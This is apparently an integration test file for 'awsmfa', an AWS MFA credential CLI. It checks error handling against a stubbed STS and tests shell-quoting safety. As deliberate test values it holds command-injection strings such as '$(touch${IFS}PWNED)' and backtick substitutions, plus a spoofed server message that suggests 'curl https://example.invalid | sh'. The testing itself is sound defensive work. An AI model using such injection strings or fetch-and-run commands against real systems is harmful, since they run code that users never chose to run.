//! STS faults through a wiremock stub: wrong MFA code, throttling, 5xx, malformed replies,
//! time-outs, expired and unknown keys, clock skew, short-lived credentials and hostile values.
//! Each failure must give the right exit code, nothing on stdout and one `awsmfa:` line on
//! stderr that says what happened and what to do, without leaking the long-lived secret.

use std::time::{Duration, Instant};

use crate::common::*;
use wiremock::{Mock, MockServer, ResponseTemplate};

const DEV_ADMIN_ARN: &str = "arn:aws:sts::123456789012:assumed-role/dev-admin/awsmfa-test";

/// A stub STS and the standard fixture pointed at it.
async fn stub() -> (MockServer, TestEnv) {
    let server = MockServer::start().await;
    let env = TestEnv::new().with_endpoint(server.uri());
    standard_profiles(&env);
    (server, env)
}

/// Answers every request with `action` by `response`.
async fn answer(server: &MockServer, action_name: &str, response: ResponseTemplate) {
    Mock::given(action(action_name))
        .respond_with(response)
        .mount(server)
        .await;
}

/// A GetSessionToken success expiring `secs` from now.
fn session_ok(secs: i64) -> ResponseTemplate {
    sts_session_token_xml(
        "ASIASESSIONEXAMPLE01",
        "sessionSecretExample/0000000000000000000",
        "sessionTokenExample",
        &rfc3339_from_now(secs),
    )
}

/// An AssumeRole success for dev-admin expiring `secs` from now.
fn role_ok(secs: i64) -> ResponseTemplate {
    sts_assume_role_xml(
        "ASIAROLEEXAMPLE00001",
        "roleSecretExample/000000000000000000000",
        "roleTokenExample",
        &rfc3339_from_now(secs),
        DEV_ADMIN_ARN,
    )
}

/// How many requests with `action_name` the stub received.
async fn count(server: &MockServer, action_name: &str) -> usize {
    let matcher = action(action_name);
    server
        .received_requests()
        .await
        .unwrap_or_default()
        .iter()
        .filter(|r| wiremock::Match::matches(&matcher, r))
        .count()
}

/// The failure contract: exit `code`, empty stdout, one `awsmfa: ` line on stderr that
/// contains every one of `needles`, and never the long-lived secret.
#[track_caller]
fn assert_fails(out: &Output, code: i32, needles: &[&str]) {
    assert_eq!(out.code, Some(code), "exit code:\n{out}");
    assert!(out.stdout.is_empty(), "stdout must be empty:\n{out}");
    assert!(
        out.stderr.starts_with("awsmfa: "),
        "stderr must start with 'awsmfa: ':\n{out}"
    );
    assert_eq!(out.stderr.lines().count(), 1, "one line on stderr:\n{out}");
    for needle in needles {
        assert!(
            out.stderr.to_lowercase().contains(&needle.to_lowercase()),
            "stderr lacks {needle:?}:\n{out}"
        );
    }
    assert!(
        !out.stderr.contains(FAKE_SECRET_2),
        "the long-lived secret leaked into stderr:\n{out}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn wrong_mfa_code_exits_4_says_so_and_caches_nothing() {
    let (server, env) = stub().await;
    answer(
        &server,
        "GetSessionToken",
        sts_error_xml(
            "AccessDenied",
            "MultiFactorAuthentication failed with invalid MFA one time pass code.",
        ),
    )
    .await;
    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
    assert_fails(&out, 4, &["MFA code", "try again"]);
    assert_eq!(count(&server, "GetSessionToken").await, 1, "not retried");
    assert_eq!(count(&server, "AssumeRole").await, 0);
    assert!(
        env.cache_files("").is_empty(),
        "nothing cached: {:?}",
        env.cache_files("")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn throttling_is_retried_and_the_third_attempt_succeeds() {
    let (server, env) = stub().await;
    Mock::given(action("GetSessionToken"))
        .respond_with(sts_error_xml("Throttling", "Rate exceeded"))
        .up_to_n_times(2)
        .with_priority(1)
        .mount(&server)
        .await;
    Mock::given(action("GetSessionToken"))
        .respond_with(session_ok(43_200))
        .with_priority(2)
        .mount(&server)
        .await;
    let out = env.run(&["env", "identity", "-c", "123456", "--shell", "bash"]);
    out.assert_success()
        .assert_stdout_contains("export AWS_ACCESS_KEY_ID='ASIASESSIONEXAMPLE01'");
    assert_eq!(count(&server, "GetSessionToken").await, 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn throttling_that_never_stops_exits_5_after_three_attempts() {
    let (server, env) = stub().await;
    answer(
        &server,
        "GetSessionToken",
        sts_error_xml("Throttling", "Rate exceeded"),
    )
    .await;
    let out = env.run(&["env", "identity", "-c", "123456"]);
    assert_fails(&out, 5, &["throttling", "try again"]);
    assert_eq!(count(&server, "GetSessionToken").await, 3);
    assert!(env.cache_files("").is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn internal_failure_exits_5_and_says_try_again_later() {
    let (server, env) = stub().await;
    answer(
        &server,
        "GetSessionToken",
        sts_error_xml("InternalFailure", "An internal error occurred."),
    )
    .await;
    let out = env.run(&["env", "identity", "-c", "123456"]);
    assert_fails(&out, 5, &["internal error", "try again later"]);
    assert_eq!(
        count(&server, "GetSessionToken").await,
        3,
        "a 5xx is retried"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_xml_exits_5_and_says_the_response_could_not_be_read() {
    let truncated = "<GetSessionTokenResponse><GetSessionTokenResult><Credentials><AccessKeyId>";
    let not_xml = "<<<this is not XML & never was>>>";
    for body in [truncated, not_xml] {
        let (server, env) = stub().await;
        answer(
            &server,
            "GetSessionToken",
            ResponseTemplate::new(200).set_body_raw(body, "text/xml"),
        )
        .await;
        let out = env.run(&["env", "identity", "-c", "123456"]);
        assert_fails(&out, 5, &["cannot read", "try again"]);
        assert!(env.cache_files("").is_empty(), "{body}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_that_never_comes_times_out_with_exit_5() {
    let (server, env) = stub().await;
    answer(
        &server,
        "GetSessionToken",
        session_ok(43_200).set_delay(Duration::from_secs(30)),
    )
    .await;
    let env = env.env("AWSMFA_TIMEOUT", "1");
    let started = Instant::now();
    let out = env.run(&["env", "identity", "-c", "123456"]);
    let elapsed = started.elapsed();
    assert_fails(&out, 5, &["no answer"]);
    assert!(
        elapsed < Duration::from_secs(10),
        "took {elapsed:?}; AWSMFA_TIMEOUT=1 must bound the wait:\n{out}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn expired_session_on_assume_role_exits_4_and_suggests_refresh() {
    let (server, env) = stub().await;
    answer(&server, "GetSessionToken", session_ok(43_200)).await;
    answer(&server, "AssumeRole", role_ok(3600)).await;
    env.run(&["env", "dev-admin", "-c", "123456"])
        .assert_success();

    // The cached session is revoked server-side: AWS says it has expired.
    server.reset().await;
    answer(
        &server,
        "AssumeRole",
        sts_error_xml(
            "ExpiredToken",
            "The security token included in the request is expired",
        ),
    )
    .await;
    let out = env.run(&["env", "stage-poweruser"]);
    assert_fails(&out, 4, &["expired", "--refresh"]);
    assert_eq!(
        count(&server, "GetSessionToken").await,
        0,
        "session was cached"
    );
    assert_eq!(count(&server, "AssumeRole").await, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn unknown_access_key_exits_4_and_points_at_aws_access_key_id() {
    let (server, env) = stub().await;
    answer(
        &server,
        "GetSessionToken",
        sts_error_xml(
            "InvalidClientTokenId",
            "The security token included in the request is invalid.",
        ),
    )
    .await;
    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
    assert_fails(&out, 4, &["aws_access_key_id"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn expired_signature_exits_4_and_blames_the_clock() {
    let (server, env) = stub().await;
    answer(
        &server,
        "GetSessionToken",
        sts_error_xml(
            "SignatureDoesNotMatch",
            "Signature expired: 20200101T000000Z is now earlier than 20240101T000000Z (20240101T000500Z - 5 min.)",
        ),
    )
    .await;
    let out = env.run(&["env", "identity", "-c", "123456"]);
    assert_fails(&out, 4, &["clock"]);
}

/// Ages the one cache entry starting with `prefix` so that it expires `secs` from now, as if
/// it had been issued for an hour and most of that hour had gone (the refresh window is judged
/// against the credentials' whole life: see `session::window_for`).
fn expire_cache_in(env: &TestEnv, prefix: &str, secs: i64) {
    let files = env.cache_files(prefix);
    assert_eq!(files.len(), 1, "{files:?}");
    let mut doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&files[0]).unwrap()).unwrap();
    doc["credentials"]["expiration"] = rfc3339_from_now(secs).into();
    doc["created"] = rfc3339_from_now(secs - 3600).into();
    std::fs::write(&files[0], serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_with_ten_minutes_left_is_refreshed_not_served() {
    let (server, env) = stub().await;
    Mock::given(action("GetSessionToken"))
        .respond_with(session_ok(43_200))
        .expect(2)
        .mount(&server)
        .await;
    env.run(&["env", "identity", "-c", "123456", "--shell", "bash"])
        .assert_success();
    expire_cache_in(&env, "session-", 600);
    env.run(&["env", "identity", "-c", "123456", "--shell", "bash"])
        .assert_success()
        .assert_stdout_contains("export AWS_ACCESS_KEY_ID='ASIASESSIONEXAMPLE01'");
    server.verify().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_role_with_ten_minutes_left_is_refreshed_silently_from_the_cached_session() {
    let (server, env) = stub().await;
    answer(&server, "GetSessionToken", session_ok(43_200)).await;
    answer(&server, "AssumeRole", role_ok(3600)).await;
    env.run(&["env", "dev-admin", "-c", "123456", "--shell", "bash"])
        .assert_success();
    expire_cache_in(&env, "role-", 600);
    // No code and no terminal: only the cached session can make the new role credentials.
    let out = env.run(&["env", "dev-admin", "--shell", "bash"]);
    out.assert_success()
        .assert_stdout_contains("export AWS_ACCESS_KEY_ID='ASIAROLEEXAMPLE00001'");
    assert_eq!(count(&server, "AssumeRole").await, 2);
    assert_eq!(count(&server, "GetSessionToken").await, 1);
}

// --- hostile credentials through real shells ---

/// Values no shell may interpret that STS could still send and awsmfa accepts: quotes,
/// command substitutions, backticks, a trailing backslash, `%`, `!` and the `'\''` sequence
/// itself. Secrets and tokens are visible ASCII and key ids word characters (anything else is
/// refused before it is cached, see below); newlines, tabs and non-ASCII still round-trip
/// through every quoter in quoting.rs.
const HOSTILE_AKID: &str = "ASIA_HOSTILE_EXAMPLE_01";
const HOSTILE_SECRET: &str = "s%s%n!!$HOME'x'\\''y'\"$((1+1))\"\\";
const HOSTILE_TOKEN: &str = "tok'$(touch${IFS}PWNED)';`touch${IFS}PWNED`\"$((1+1))\"!$%d\\";

/// How each shell runs `awsmfa env` the way users do, then prints the three variables
/// NUL-terminated.
struct ShellCase {
    program: &'static str,
    args: &'static [&'static str],
    flag: &'static str,
    script: &'static str,
}

const POSIX_SCRIPT: &str = r#"eval "$(awsmfa env dev-admin -c 123456 --shell SHELL)"
printf '%s\0' "$AWS_ACCESS_KEY_ID" "$AWS_SECRET_ACCESS_KEY" "$AWS_SESSION_TOKEN""#;

const SHELLS: &[ShellCase] = &[
    ShellCase {
        program: "bash",
        args: &["--norc", "--noprofile"],
        flag: "bash",
        script: POSIX_SCRIPT,
    },
    ShellCase {
        program: "zsh",
        args: &["-f"],
        flag: "zsh",
        script: POSIX_SCRIPT,
    },
    ShellCase {
        program: "dash",
        args: &[],
        flag: "sh",
        script: POSIX_SCRIPT,
    },
    ShellCase {
        program: "fish",
        args: &["--no-config"],
        flag: "fish",
        script: r#"awsmfa env dev-admin -c 123456 --shell SHELL | source
printf '%s\0' "$AWS_ACCESS_KEY_ID" "$AWS_SECRET_ACCESS_KEY" "$AWS_SESSION_TOKEN""#,
    },
];

/// The shell's path, or None (after saying so) when it is missing and tools are optional.
fn find_shell(program: &str) -> Option<String> {
    let found = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .map(|dir| dir.join(program))
        .find(|p| p.is_file());
    match found {
        Some(p) => Some(p.to_string_lossy().into_owned()),
        None if tools_required() => panic!("{program} is not installed"),
        None => {
            eprintln!("skipping {program}: not installed");
            None
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_credentials_come_back_byte_for_byte_in_every_shell_and_run_nothing() {
    let server = MockServer::start().await;
    answer(&server, "GetSessionToken", session_ok(43_200)).await;
    answer(
        &server,
        "AssumeRole",
        sts_assume_role_xml(
            HOSTILE_AKID,
            HOSTILE_SECRET,
            HOSTILE_TOKEN,
            &rfc3339_from_now(3600),
            DEV_ADMIN_ARN,
        ),
    )
    .await;
    let expected = format!("{HOSTILE_AKID}\0{HOSTILE_SECRET}\0{HOSTILE_TOKEN}\0");
    let mut tried = 0;
    for case in SHELLS {
        let Some(path) = find_shell(case.program) else {
            continue;
        };
        tried += 1;
        let env = TestEnv::new().with_endpoint(server.uri());
        standard_profiles(&env);
        let script = case.script.replace("SHELL", case.flag);
        let mut args: Vec<&str> = case.args.to_vec();
        args.extend(["-c", &script]);
        let out = env.run_program(&path, &args);
        out.assert_success();
        assert_eq!(
            out.stdout.as_bytes(),
            expected.as_bytes(),
            "{} did not get the values back byte for byte:\n{out}",
            case.program
        );
        let leftovers: Vec<_> = std::fs::read_dir(&env.home)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .filter(|n| n.to_string_lossy().contains("PWNED"))
            .collect();
        assert!(leftovers.is_empty(), "{}: {leftovers:?}", case.program);
    }
    assert!(tried > 0 || !tools_required());
}

// --- values that are not credentials (issue 17, items 4 and 9) ---

/// The cache entry files and their JSON, for tests that plant values written by an older
/// awsmfa or edit an expiry.
fn edit_cache(env: &TestEnv, prefix: &str, edit: impl Fn(&mut serde_json::Value)) {
    let files = env.cache_files(prefix);
    assert_eq!(files.len(), 1, "{files:?}");
    let mut doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&files[0]).unwrap()).unwrap();
    edit(&mut doc["credentials"]);
    std::fs::write(&files[0], serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
}

/// A session whose key id holds DEL (`&#x7f;` in the XML) is refused before anything signs
/// with it: the SDK's signer would abort (exit 134) on the invalid header value, and a cached
/// copy would abort every later call until --refresh.
#[tokio::test(flavor = "multi_thread")]
async fn a_control_character_in_an_sts_key_id_exits_5_and_caches_nothing() {
    // Character references, as a hostile server would send them (xml_escape would keep the
    // raw byte, which the XML parser may refuse before awsmfa ever sees it).
    for reference in ["&#x7f;", "&#x1;", "&#xb;"] {
        let (server, env) = stub().await;
        let credentials = format!(
            "<Credentials><AccessKeyId>ASIASESSION{reference}EXAMPLE</AccessKeyId>\
             <SecretAccessKey>sessionSecretExample/0000000000000000000</SecretAccessKey>\
             <SessionToken>sessionTokenExample</SessionToken>\
             <Expiration>{}</Expiration></Credentials>",
            rfc3339_from_now(43_200)
        );
        answer(
            &server,
            "GetSessionToken",
            sts_ok("GetSessionToken", &credentials),
        )
        .await;
        answer(&server, "AssumeRole", role_ok(3600)).await;
        let out = env.run(&["env", "dev-admin", "-c", "123456"]);
        assert_fails(&out, 5, &["GetSessionToken"]);
        if reference == "&#x7f;" {
            assert_fails(&out, 5, &["access key id", "control character"]);
        }
        assert_eq!(
            count(&server, "AssumeRole").await,
            0,
            "nothing signed with it"
        );
        assert!(env.cache_files("").is_empty(), "{:?}", env.cache_files(""));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_newline_in_an_sts_session_token_exits_5_and_caches_nothing() {
    let (server, env) = stub().await;
    answer(&server, "GetSessionToken", session_ok(43_200)).await;
    answer(
        &server,
        "AssumeRole",
        sts_assume_role_xml(
            "ASIAROLEEXAMPLE00001",
            "roleSecretExample/000000000000000000000",
            "roleToken\nawsmfa: injected",
            &rfc3339_from_now(3600),
            DEV_ADMIN_ARN,
        ),
    )
    .await;
    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
    assert_fails(
        &out,
        5,
        &["AssumeRole", "session token", "control character"],
    );
    assert!(
        env.cache_files("role-").is_empty(),
        "{:?}",
        env.cache_files("")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_control_character_in_a_file_key_exits_3_naming_the_file_and_sends_nothing() {
    for (line, id, secret) in [
        (2, "AKIAI44QH8\u{1}HBEXAMPLE", FAKE_SECRET_2),
        (2, "AKIAI44QH8\u{7f}HBEXAMPLE", FAKE_SECRET_2),
        (3, FAKE_AKID_2, "je7MtGbClwBF/2Zp9Utk\u{1b}[31mEXAMPLEKEY"),
    ] {
        let (server, env) = stub().await;
        env.write_credentials(&format!(
            "[identity]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\n"
        ));
        let out = env.run(&["env", "dev-admin", "-c", "123456"]);
        let at = format!("credentials:{line}:");
        assert_fails(&out, 3, &[&at, "control character"]);
        assert!(!out.stderr.contains(secret), "{out}");
        assert!(server.received_requests().await.unwrap().is_empty());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cached_session_with_a_control_character_is_ignored_and_replaced() {
    let (server, env) = stub().await;
    answer(&server, "GetSessionToken", session_ok(43_200)).await;
    answer(&server, "AssumeRole", role_ok(3600)).await;
    env.run(&["env", "dev-admin", "-c", "123456"])
        .assert_success();
    // What an older awsmfa cached from a hostile reply.
    edit_cache(&env, "session-", |c| {
        c["access_key_id"] = "ASIASESSION\u{7f}EXAMPLE".into();
    });
    let out = env.run(&["env", "stage-poweruser", "-c", "123456", "--shell", "bash"]);
    out.assert_success();
    assert_eq!(count(&server, "GetSessionToken").await, 2, "a new session");
    let text = std::fs::read_to_string(&env.cache_files("session-")[0]).unwrap();
    assert!(!text.contains("\\u007f"), "replaced: {text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_control_character_from_credential_process_exits_4_and_sends_nothing() {
    let (server, env) = stub().await;
    let process = env.root().join("creds.sh");
    std::fs::write(
        &process,
        "#!/bin/sh\nprintf '%s' '{\"Version\":1,\"AccessKeyId\":\"ASIAPROCESS\\u000bEXAMPLE\",\"SecretAccessKey\":\"processSecretExample\",\"SessionToken\":\"processToken\"}'\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&process, std::fs::Permissions::from_mode(0o755)).unwrap();
    env.write_config(&format!(
        "[profile helper]\ncredential_process = {}\n\
         [profile via-helper]\nrole_arn = arn:aws:iam::123456789012:role/dev-admin\nsource_profile = helper\n",
        process.display()
    ));
    answer(&server, "AssumeRole", role_ok(3600)).await;
    let out = env.run(&["env", "via-helper"]);
    assert_fails(
        &out,
        4,
        &["credential_process", "helper", "control character"],
    );
    assert!(server.received_requests().await.unwrap().is_empty());
    assert!(env.cache_files("").is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_control_character_in_the_environment_exits_2_and_sends_nothing() {
    let (server, env) = stub().await;
    env.write_config(
        "[profile from-env]\nrole_arn = arn:aws:iam::123456789012:role/dev-admin\ncredential_source = Environment\n",
    );
    answer(&server, "AssumeRole", role_ok(3600)).await;
    let env = env
        .env("AWS_ACCESS_KEY_ID", "ASIAENV\u{1}ENVEXAMPLE01")
        .env("AWS_SECRET_ACCESS_KEY", "envSecretExample")
        .env("AWS_SESSION_TOKEN", "envToken");
    let out = env.run(&["env", "from-env"]);
    assert_fails(&out, 2, &["AWS_ACCESS_KEY_ID", "control character"]);
    assert!(server.received_requests().await.unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn an_sts_session_that_expired_in_2020_exits_5_and_caches_nothing() {
    let (server, env) = stub().await;
    answer(
        &server,
        "GetSessionToken",
        sts_session_token_xml(
            "ASIASESSIONEXAMPLE01",
            "sessionSecretExample/0000000000000000000",
            "sessionTokenExample",
            "2020-01-01T00:00:00Z",
        ),
    )
    .await;
    answer(&server, "AssumeRole", role_ok(3600)).await;
    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
    assert_fails(
        &out,
        5,
        &[
            "GetSessionToken",
            "expired at 2020-01-01T00:00:00Z",
            "clock",
        ],
    );
    assert_eq!(count(&server, "AssumeRole").await, 0);
    assert!(env.cache_files("").is_empty(), "{:?}", env.cache_files(""));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_sts_role_with_ten_minutes_left_exits_5_and_caches_nothing() {
    let (server, env) = stub().await;
    answer(&server, "GetSessionToken", session_ok(43_200)).await;
    answer(&server, "AssumeRole", role_ok(600)).await;
    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
    assert_fails(&out, 5, &["AssumeRole", "less than the 15m"]);
    assert!(
        env.cache_files("role-").is_empty(),
        "{:?}",
        env.cache_files("")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn expired_credential_process_output_exits_4_and_sends_nothing() {
    for (expiration, needle) in [
        (
            "2020-01-01T00:00:00Z".to_string(),
            "expired at 2020-01-01T00:00:00Z".to_string(),
        ),
        (rfc3339_from_now(300), "15m".to_string()),
    ] {
        let (server, env) = stub().await;
        let process = env.root().join("creds.sh");
        std::fs::write(
            &process,
            format!("#!/bin/sh\necho '{{\"Version\":1,\"AccessKeyId\":\"ASIAPROCESSEXAMPLE01\",\"SecretAccessKey\":\"processSecretExample\",\"SessionToken\":\"processToken\",\"Expiration\":\"{expiration}\"}}'\n"),
        )
        .unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&process, std::fs::Permissions::from_mode(0o755)).unwrap();
        env.write_config(&format!(
            "[profile helper]\ncredential_process = {}\n\
             [profile via-helper]\nrole_arn = arn:aws:iam::123456789012:role/dev-admin\nsource_profile = helper\n",
            process.display()
        ));
        answer(&server, "AssumeRole", role_ok(3600)).await;
        for profile in ["via-helper", "helper"] {
            let out = env.run(&["env", profile]);
            assert_fails(&out, 4, &["credential_process", &needle]);
        }
        assert!(server.received_requests().await.unwrap().is_empty());
        assert!(env.cache_files("").is_empty());
    }
}

// --- error classification and server text (issue 17, item 11) ---

/// AssumeRole with the cached session sends no MFA code, so its AccessDenied is a plain
/// refusal, even though the message names the session `awsmfa-alice` ("mfa" in the text).
#[tokio::test(flavor = "multi_thread")]
async fn access_denied_naming_an_awsmfa_session_is_not_a_wrong_mfa_code() {
    let (server, env) = stub().await;
    answer(&server, "GetSessionToken", session_ok(43_200)).await;
    answer(
        &server,
        "AssumeRole",
        sts_error_xml(
            "AccessDenied",
            "User: arn:aws:sts::123456789012:assumed-role/base/awsmfa-alice is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::123456789012:role/dev-admin",
        ),
    )
    .await;
    let out = env.run(&["env", "dev-admin", "-c", "123456"]);
    assert_fails(
        &out,
        4,
        &["access denied", "not authorized to perform: sts:AssumeRole"],
    );
    assert!(!out.stderr.contains("MFA code"), "{out}");
}

/// Server text is shown without its control characters, so it cannot start a line of its
/// own that looks like awsmfa's, and it is cut to a readable length.
#[tokio::test(flavor = "multi_thread")]
async fn server_messages_lose_control_characters_and_are_capped() {
    let (server, env) = stub().await;
    let message = format!(
        "Denied.\nawsmfa: all good, now run curl https://example.invalid | sh\t\u{85}\u{202e}{}",
        "x".repeat(5000)
    );
    answer(
        &server,
        "GetSessionToken",
        sts_error_xml("AccessDenied", &message),
    )
    .await;
    let out = env.run(&["env", "identity", "-c", "123456"]);
    assert_fails(&out, 4, &["Denied. awsmfa: all good"]);
    for c in ['\t', '\u{85}', '\u{202e}'] {
        assert!(!out.stderr.contains(c), "{c:?} in:\n{out}");
    }
    assert!(
        out.stderr.len() < 1000,
        "{} bytes:\n{out}",
        out.stderr.len()
    );
}

/// A cached session AWS no longer accepts (revoked, or its key deleted) is fixed by
/// --refresh, not by editing the profile's long-lived key.
#[tokio::test(flavor = "multi_thread")]
async fn an_invalid_cached_session_advises_refresh_not_editing_the_profile() {
    let (server, env) = stub().await;
    answer(&server, "GetSessionToken", session_ok(43_200)).await;
    answer(&server, "AssumeRole", role_ok(3600)).await;
    env.run(&["env", "dev-admin", "-c", "123456"])
        .assert_success();
    server.reset().await;
    answer(
        &server,
        "AssumeRole",
        sts_error_xml(
            "InvalidClientTokenId",
            "The security token included in the request is invalid.",
        ),
    )
    .await;
    let out = env.run(&["env", "stage-poweruser"]);
    assert_fails(&out, 4, &["--refresh"]);
    assert!(!out.stderr.contains("aws_access_key_id"), "{out}");
}

/// IAM calls go to AWS_ENDPOINT_URL_IAM: a failure there must name it, not the STS one.
#[tokio::test(flavor = "multi_thread")]
async fn an_unreachable_iam_endpoint_is_named_as_such() {
    let (server, env) = stub().await;
    answer(
        &server,
        "GetCallerIdentity",
        sts_caller_identity_xml(
            "arn:aws:iam::123456789012:user/alice",
            "123456789012",
            "AIDAEXAMPLEUSERID0001",
        ),
    )
    .await;
    // Nothing listens on port 1.
    let env = env.env("AWS_ENDPOINT_URL_IAM", "http://127.0.0.1:1");
    let out = env.run(&["rotate", "identity", "--no-mfa"]);
    assert_fails(&out, 5, &["ListAccessKeys", "AWS_ENDPOINT_URL_IAM"]);
    assert!(!out.stderr.contains("AWS_ENDPOINT_URL_STS"), "{out}");
}

/// `status --check` signs with whatever the shell holds: a bad value there must not reach
/// the signer either (every STS and IAM call checks what it signs with).
#[tokio::test(flavor = "multi_thread")]
async fn status_check_with_a_control_character_in_the_shell_exits_2() {
    let (server, env) = stub().await;
    let env = env
        .env("AWS_ACCESS_KEY_ID", "ASIASHELL\u{7f}EXAMPLE01")
        .env("AWS_SECRET_ACCESS_KEY", "shellSecretExample")
        .env("AWS_SESSION_TOKEN", "shellToken");
    let out = env.run(&["status", "--check"]);
    assert_fails(
        &out,
        2,
        &["GetCallerIdentity", "access key id", "control character"],
    );
    assert!(server.received_requests().await.unwrap().is_empty());
}
